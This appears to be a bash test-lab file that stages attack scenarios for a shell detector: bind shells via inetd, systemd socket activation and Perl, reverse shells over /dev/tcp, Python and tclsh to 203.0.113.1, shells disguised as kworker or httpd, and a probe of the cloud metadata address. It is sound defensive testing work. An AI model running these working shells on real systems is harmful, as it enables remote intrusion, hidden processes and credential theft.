# shellcheck shell=bash
# Attacks, by what a process is and what its descriptors are: shells that were
# handed over, renamed, loaded or hidden.
# shellcheck disable=SC2016,SC2034 # sh -c TEXT; SCAN and FLAG are lab.bash's

# A process that connects to port 4444.
caller()
{
	peer $NET connect 203.0.113.2 4444
	await local_port=4444 state=ESTABLISHED
}

attack inetd-shell 'shell-net stdio-socket' 'a line of sh -i in inetd.conf'
run-inetd-shell()
{
	need inetd
	echo '4444 stream tcp nowait nobody /bin/sh sh -i' >$LAB/inetd.conf
	bg inetd -d $LAB/inetd.conf
	await local_port=4444 state=LISTEN
	caller
}

attack socket-shell 'shell-net stdio-socket' 'a socket unit, Accept=yes, of bash'
run-socket-shell()
{
	need systemd-socket-activate
	bg systemd-socket-activate -a --inetd -l 4444 /bin/bash
	await local_port=4444 state=LISTEN
	caller
}

attack fork-shell stdio-socket 'a server of its own that forks a shell'
run-fork-shell()
{
	need nc.openbsd perl
	copy perl /opt/mail/maild
	as www-data /opt/mail/maild -MIO::Socket::INET -e '$SIG{CHLD} = "IGNORE";
$l = new IO::Socket::INET(LocalPort, 4444, Listen, 1);
while ($c = $l->accept) { next if fork; open(STDIN, "<&", $c);
open(STDOUT, ">&", $c); open(STDERR, ">&", $c); close $l;
exec "/bin/bash", "-i" }'
	await local_port=4444 state=LISTEN
	caller
}

attack renamed-bash stdio-socket 'a copy of bash, at a path as of systemd'
run-renamed-bash()
{
	hold 4444
	copy bash /opt/systemd/systemd-helper
	as www-data /opt/systemd/systemd-helper -c \
	    '/opt/systemd/systemd-helper -i >& /dev/tcp/203.0.113.1/4444 0>&1'
	shell_is 203.0.113.1 process=systemd-helper fd=255
}

attack loaded-bash 'shell-net stdio-socket' 'bash as an argument of the loader'
run-loaded-bash()
{
	local loader=/lib64/ld-linux-x86-64.so.2

	need $loader
	hold 4444
	as www-data bash -c "$loader /bin/bash -i >& \
/dev/tcp/203.0.113.1/4444 0>&1"
	shell_is 203.0.113.1 exe~ld-linux
}

attack script-pty stdio-socket 'script(1) with the connection as its terminal'
run-script-pty()
{
	need script python3
	hold 4444
	as lab /usr/bin/python3 -c 'import socket, os
s = socket.create_connection(("203.0.113.1", 4444))
[os.dup2(s.fileno(), fd) for fd in (0, 1, 2)]
os.execv("/usr/bin/script", ["script", "-qfc", "bash", "/dev/null"])'
	shell_is 203.0.113.1 process=script
}

attack shell-name 'fake-kthread shell-net stdio-socket' \
	'a shell that calls itself [kworker/0:1]'
run-shell-name()
{
	hold 4444
	as www-data bash -c 'exec 3<>/dev/tcp/203.0.113.1/4444
exec -a "[kworker/0:1]" bash <&3 >&3 2>&3'
	shell_is 203.0.113.1 'cmdline~kworker'
}

attack shell-argv 'fake-daemon shell-net stdio-socket' 'a shell that calls itself a daemon'
run-shell-argv()
{
	need dash
	hold 4444
	as www-data bash -c 'exec 3<>/dev/tcp/203.0.113.1/4444
exec -a "/usr/sbin/httpd -k start" dash <&3 >&3 2>&3'
	shell_is 203.0.113.1 exe~dash
}

attack login-shell 'shell-net stdio-socket' 'a login shell, with input alone'
run-login-shell()
{
	hold 4444
	as www-data bash -c 'exec 3<>/dev/tcp/203.0.113.1/4444
exec -l bash --noprofile <&3 >/dev/null 3>&-'
	shell_is 203.0.113.1 fd=0
}

attack tclsh 'stdio-socket' 'tclsh: socket, exec of sh'
run-tclsh()
{
	need tclsh
	hold 4444
	as www-data sh -c 'echo "set s [socket 10.0.0.1 4444]
exec sh -i <@\$s >@\$s 2>@\$s" | tclsh'
	shell_is 10.0.0.1 process=sh
}

attack mawk-turned stdio-socket 'a filter with the connection as its output'
run-mawk-turned()
{
	hold 4444
	as www-data bash -c 'exec cat <>/dev/tcp/203.0.113.1/4444 >&0'
	shell_is 203.0.113.1 process=cat
}

attack orphan shell-net 'a shell, and an orphan that has its descriptor too'
run-orphan()
{
	hold 4444
	as www-data bash -c 'exec 5<>/dev/tcp/203.0.113.1/4444
(sleep 60 &); while read -r -u 5 l; do $l >&5; done; :'
	shell_is 203.0.113.1 process=sleep ppid=1
}

attack metadata shell-net "bash asks for a cloud's secrets"
run-metadata()
{
	ip -n peer addr add 169.254.169.254/32 dev lo
	ip route add 169.254.169.254/32 via 10.0.0.1
	hold 80
	as www-data bash -c 'exec 3<>/dev/tcp/169.254.169.254/80
sleep 60; :'
	await remote_addr=169.254.169.254 process=bash
}

attack zsh-listen shell-listener 'zsh: ztcp -l'
run-zsh-listen()
{
	need zsh
	as www-data zsh -c 'zmodload zsh/net/tcp; ztcp -l 4444; sleep 60; :'
	await local_port=4444 state=LISTEN process=zsh
}

attack shell-given shell-listener 'a shell with a listener as its input'
run-shell-given()
{
	as www-data /usr/bin/python3 -c 'import socket, os
s = socket.create_server(("", 4444))
os.dup2(s.fileno(), 0)
os.execv("/bin/sh", ["sh", "-c", "sleep 60; :"])'
	await local_port=4444 state=LISTEN process=sh
}
